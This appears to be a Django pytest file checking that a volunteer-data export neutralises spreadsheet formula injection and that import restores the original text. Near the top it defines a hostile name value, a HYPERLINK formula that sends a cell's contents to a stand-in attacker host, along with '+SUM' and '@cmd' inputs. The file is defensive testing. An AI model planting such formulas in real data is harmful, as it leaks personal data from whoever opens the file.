"""Text that a spreadsheet would run as a formula leaves export_data as text, and the import reads
back exactly what the export wrote (the funder report's download: reports/tests)."""

import csv
from datetime import date
from io import StringIO

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.db import transaction
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from lib.spreadsheet import FORMULA_STARTS, neutralise, restore
from transfer.applying import import_data
from volunteers.models import Volunteer
from volunteers.tests.test_application import application

ON_PAPER = date(2026, 1, 15)  # consent held on paper (transfer/tests/test_import.py)

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&C2,"Se profil")'
HOSTILE = {
    "first_name": HOSTILE_NAME,
    "last_name": "+SUM(1,2)",
    "education_job": "@cmd",
}


@given(st.text())
def test_restore_gives_back_what_neutralise_was_given(text):
    marked = neutralise(text)
    assert not marked.startswith(FORMULA_STARTS)
    assert restore(marked) == text


def test_numbers_and_dates_are_left_as_they_are():
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise("Amina") == "Amina"


@pytest.fixture
def hostile_volunteer(client, hovedstaden):
    cache.clear()
    response = client.post(reverse("volunteers:apply"), application(first_name=HOSTILE_NAME, last_name="+SUM(1,2)"))
    assert response.status_code == 302
    return Volunteer.objects.get()


def _text_cells(path):
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_export_xlsx_has_no_formula_and_imports_back_unchanged(tmp_path, hostile_volunteer):
    target = tmp_path / "export.xlsx"
    call_command("export_data", str(target), stdout=StringIO())
    cells = list(_text_cells(target))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
    _empty_and_import(target)
    volunteer = Volunteer.objects.get()
    assert (volunteer.first_name, volunteer.last_name) == (HOSTILE_NAME, "+SUM(1,2)")


def test_export_csv_has_no_cell_starting_a_formula_and_imports_back_unchanged(tmp_path, hostile_volunteer):
    target = tmp_path / "export"
    call_command("export_data", str(target), stdout=StringIO())
    for path in target.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                assert not [value for value in row if value.startswith(FORMULA_STARTS)], path.name
    _empty_and_import(target)
    assert Volunteer.objects.get().first_name == HOSTILE_NAME


def _empty_and_import(path):
    with transaction.atomic():
        Volunteer.objects.all().delete()
    plan = import_data(path, consent_on_paper=ON_PAPER)
    assert plan.errors == []
